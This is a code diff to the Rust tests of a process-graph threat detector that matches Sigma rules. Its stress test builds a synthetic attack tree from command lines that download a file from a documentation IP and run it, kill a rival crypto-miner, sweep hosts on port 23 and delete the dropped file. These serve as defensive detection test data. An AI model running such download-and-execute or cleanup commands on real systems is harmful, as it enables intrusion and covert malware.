@@ -148,17 +148,7 @@ fn benign_commands_raise_no_alarm() {
     let (mut alarms, mut remarks) = (Vec::new(), 0);
     for line in &lines {
         let single = behaviours.of_process(&view(line, None)).into_iter();
-        let alone = Line {
-            parent: None,
-            cmd_line: line.cmd_line.clone(),
-            file_path: line.file_path.clone(),
-            parent_file_path: None,
-            parent_cmd_line: None,
-            files_written: Vec::new(),
-            connects: Vec::new(),
-            start: None,
-        };
-        let several = behaviours.of_tree(&tree(std::slice::from_ref(&alone))).into_iter().map(|found| found.behaviour);
+        let several = behaviours.of_tree(&tree(std::slice::from_ref(line))).into_iter().map(|found| found.behaviour);
         for behaviour in single.chain(several).filter_map(|id| behaviours.get(id)) {
             remarks += 1;
             if behaviour.severity.is_alarm() {
@@ -173,4 +163,110 @@ fn benign_commands_raise_no_alarm() {
     );
     assert!(lines.len() >= 300);
     assert!(alarms.is_empty(), "\n{}", alarms.join("\n"));
+}
+
+/// The table of the documentation. `RINGLEADER_BLESS=1 cargo test` writes it anew.
+#[test]
+fn the_documented_table_is_up_to_date() {
+    let behaviours = Behaviours::built_in();
+    let mut all: Vec<_> = behaviours.all().iter().collect();
+    all.sort_by(|a, b| a.id.cmp(&b.id));
+    let mut text = String::from(
+        "# Behaviours\n\nWhat Ringleader sees in process graphs. *single*: one process shows it, by a Sigma rule in\n\
+         `knowledge/behaviours`. *tree*: it takes several, by a pattern in `crates/pipeline/src/label`. From `high` on a\n\
+         behaviour is alarm grade: it makes an episode suspicious by itself. Your own Sigma rules (`process_creation` for\n\
+         Linux, Windows or either; fields `Image`, `CommandLine`, `ParentImage`, `ParentCommandLine`, `User`,\n\
+         `CurrentDirectory`) add to these.\n\n\
+         This page is generated from the registries; a test keeps it up to date.\n\n\
+         | behaviour | seen | technique | severity | kind | maturity |\n|---|---|---|---|---|---|\n",
+    );
+    for it in &all {
+        let link = it.technique.replace('.', "/");
+        let kind = if it.kind == Kind::Tree { "tree" } else { "single" };
+        let maturity = format!("{:?}", it.maturity).to_lowercase();
+        text.push_str(&format!(
+            "| `{}` | {} | [{}](https://attack.mitre.org/techniques/{link}/) | {} | {kind} | {maturity} |\n",
+            it.id,
+            it.title,
+            it.technique,
+            it.severity.name()
+        ));
+    }
+    let path = root().join("docs/behaviours.md");
+    if std::env::var_os("RINGLEADER_BLESS").is_some() {
+        std::fs::write(&path, &text).unwrap();
+    }
+    assert_eq!(std::fs::read_to_string(&path).unwrap_or_default(), text, "run with RINGLEADER_BLESS=1");
+}
+
+const RULE: &str = "title: Runs a tool\nid: 6f1c1c2e-0000-4000-8000-000000000000\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n    s:\n        Image|endswith: '/tool'\n    condition: s\ntags:\n    - attack.execution\n    - attack.t1059\n    - attack.t1059.004\nlevel: high\n";
+
+#[test]
+fn a_user_adds_rules_and_hears_of_those_that_do_not_work() {
+    let text = |name: &str, text: &str| (name.to_owned(), text.to_owned());
+    let (behaviours, problems) = Behaviours::with_rules(&[
+        text("runs_a_tool", RULE),
+        text("no_yaml", "title: [\n"),
+        text("other_source", &RULE.replace("process_creation", "dns_query")),
+        text("other_product", &RULE.replace("linux", "macos")),
+        text("bad_regex", &RULE.replace("Image|endswith: '/tool'", "Image|re: '('")),
+        text("writes_cron", RULE),
+        text("huge", &"#".repeat(2 << 20)),
+        text("retired", &RULE.replace("level: high", "status: deprecated")),
+        text("two", &format!("{RULE}---\n{RULE}")),
+    ]);
+    let names: Vec<_> = problems.iter().map(|it| it.name.as_str()).collect();
+    assert_eq!(names, ["no_yaml", "other_source", "other_product", "bad_regex", "writes_cron", "huge"], "{problems:?}");
+    let view = ProcessView { file_path: Some("/opt/tool"), ..ProcessView::default() };
+    let seen: Vec<_> = behaviours.of_process(&view).into_iter().map(|id| behaviours.get(id).unwrap()).collect();
+    assert_eq!(seen.iter().map(|it| it.id.as_str()).collect::<Vec<_>>(), ["runs_a_tool", "two", "two_2"]);
+    assert_eq!((seen[0].technique.as_str(), seen[0].severity), ("T1059.004", Severity::High));
+    assert_eq!(behaviours.of_process(&ProcessView { windows: true, ..view }), []);
+    assert!(behaviours.by_name("retired").is_some());
+}
+
+/// Evidence names nodes that exist, in order, whatever stands in the tree.
+#[test]
+fn hostile_trees_are_bounded() {
+    let behaviours = Behaviours::built_in();
+    let start = std::time::Instant::now();
+    let mut nodes = vec![Node { cmd_line: Some("bash"), ..Node::default() }];
+    let kinds = ["wget http://192.0.2.1/x -O /tmp/x", "/tmp/x", "pkill xmrig", "uname -a", "nproc", "free", "id", "w", "rm /tmp/x"];
+    nodes.extend((0..200_000).map(|index| Node {
+        // A parent that comes later, or is none at all, is a damaged log and must not matter.
+        parent: [Some(0), Some(index + 5), Some(usize::MAX), None][index % 4],
+        cmd_line: Some(kinds[index % kinds.len()]),
+        ..Node::default()
+    }));
+    let connects: Vec<String> = (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
+    nodes[7].connects = connects.iter().map(String::as_str).collect();
+    let long = "é;`$(\"'|".repeat(100_000);
+    nodes[9].cmd_line = Some(&long);
+    let tree = Tree { nodes };
+    let found = behaviours.of_tree(&tree);
+    for id in ["downloads_then_runs", "kills_rivals", "sweeps_hosts", "deletes_itself", "system_reconnaissance"] {
+        let of: Vec<_> = found.iter().filter(|it| behaviours.get(it.behaviour).unwrap().id == id).collect();
+        assert!((1..=MAX_FOUND).contains(&of.len()), "{id}: {}", of.len());
+        assert!(of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len())));
+    }
+    let view = ProcessView { cmd_line: Some(&long), ..ProcessView::default() };
+    assert!(behaviours.of_process(&view).len() < behaviours.all().len());
+    println!("200,000 nodes in {:?}", start.elapsed());
+}
+
+proptest::proptest! {
+    #[test]
+    fn any_text_is_read_without_panic(line in "[ -~é\\n;|&$()`'\"<>]{0,200}", image in proptest::option::of("\\PC{0,40}")) {
+        static BEHAVIOURS: std::sync::LazyLock<Behaviours> = std::sync::LazyLock::new(Behaviours::built_in);
+        for windows in [false, true] {
+            let view = ProcessView { file_path: image.as_deref(), cmd_line: Some(&line), windows, ..ProcessView::default() };
+            BEHAVIOURS.of_process(&view);
+            for command in command::commands(&line, windows) {
+                proptest::prop_assert!(!command.words.is_empty());
+                fetch::download(&command);
+            }
+        }
+        let node = Node { file_path: image.as_deref(), cmd_line: Some(&line), ..Node::default() };
+        BEHAVIOURS.of_tree(&Tree { nodes: vec![node.clone(), Node { parent: Some(0), ..node }] });
+    }
 }
